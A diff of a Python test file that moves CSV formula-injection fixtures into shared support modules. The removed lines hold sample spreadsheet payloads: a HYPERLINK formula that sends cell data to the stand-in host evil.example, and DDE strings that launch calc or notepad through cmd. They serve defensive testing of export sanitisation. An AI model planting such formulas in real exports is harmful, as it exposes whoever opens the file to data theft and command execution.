@@ -19,23 +19,26 @@ from pathlib import Path
 
 import pytest
 import pytest_asyncio
-from probe_support import AWAY, CAST, COMMITTEE, HOME, Call, Probe, open_probe
-from test_feeds import feeds_config
 
 from grids import Level, ResponderKind
 from grids.loader import load_hierarchy
-from whistle.stats import BREAKDOWN_METRICS, TABLES, csv_table
+from tests.support.feeds import feeds_config
+from tests.support.formulas import (
+    COMMUNITY,
+    EXPORTS,
+    MAJOR,
+    MEMBER,
+    NAMES,
+    TOWN_A,
+    TOWN_B,
+    UNPOSTED,
+)
+from tests.support.probe import AWAY, CAST, COMMITTEE, HOME, Call, Probe, open_probe
+from whistle.stats import BREAKDOWN_METRICS, csv_table
 
 shared_loop = pytest.mark.asyncio(loop_scope="module")
 
 FORMULA = re.compile(r"^[=+\-@\t\r]")
-TOWN_A = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
-TOWN_B = "@SUM(1+1)*cmd|' /C calc'!A0"
-COMMUNITY = "+cmd|' /C calc'!A0"
-MEMBER = "-2+3+cmd|' /C calc'!A0"
-UNPOSTED = "=1+1"
-MAJOR = "=cmd|' /C notepad'!A0"
-NAMES = (TOWN_A, TOWN_B, COMMUNITY, MEMBER, UNPOSTED, MAJOR)
 
 
 def formula_county(tmp: Path, county_dir: Path) -> Path:
@@ -92,11 +95,6 @@ async def probe(tmp_path_factory: pytest.TempPathFactory, county_dir: Path) -> A
             await p.respond(assignment, "acknowledge")
         await p.case(location={"grid": p.micro(AWAY)})
         yield p
-
-
-# Each export is read whole; these are the windows whose rows carry the formula names.
-EXPORTS = tuple((table, where) for table in TABLES for where in ("county", "town A", "community"))
-CSV_EXPORTS = len(EXPORTS)
 
 
 def cells(body: bytes) -> list[str]:
